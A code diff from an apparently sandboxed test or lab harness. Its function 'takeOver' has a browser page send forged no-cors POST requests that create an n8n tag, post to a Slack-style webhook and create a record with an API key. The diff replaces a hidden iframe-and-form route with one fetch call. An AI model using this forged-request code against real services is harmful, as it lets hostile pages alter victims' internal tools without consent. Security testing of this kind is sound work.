@@ -61,18 +61,7 @@ export async function takeOver({ n8n, service, password, mark }: Target): Promis
 		ask(address, { method: 'POST', mode: 'no-cors', body }).catch(() => undefined);
 	// Requests that a page may always send, such as those of a form: only the reply is kept from it.
 	await send(`${n8n}/rest/tags`, new URLSearchParams({ name: mark }));
-	const channel = `${service}/neighbours/slack/T000/B000/sandbox`;
-	const message = JSON.stringify({ text: mark });
-	await send(channel, message);
-	const frame = document.body.appendChild(document.createElement('iframe'));
-	frame.name = `frame-${mark}`;
-	const form = document.body.appendChild(document.createElement('form'));
-	Object.assign(form, { method: 'POST', action: channel, target: frame.name });
-	const field = form.appendChild(document.createElement('input'));
-	Object.assign(field, { name: 'payload', value: message });
-	const answered = new Promise((resolve) => frame.addEventListener('load', resolve));
-	form.submit();
-	await Promise.race([answered, new Promise((resolve) => setTimeout(resolve, 3000))]);
+	await send(`${service}/neighbours/slack/T000/B000/sandbox`, JSON.stringify({ text: mark }));
 	await attempt('create record', async () => {
 		const record = json({ record: { 'field-1': mark } }, { 'X-Service-API-Key': 'sandbox-key' });
 		return (await ask(`${service}/api/apps/1/records`, record)).status === 201;
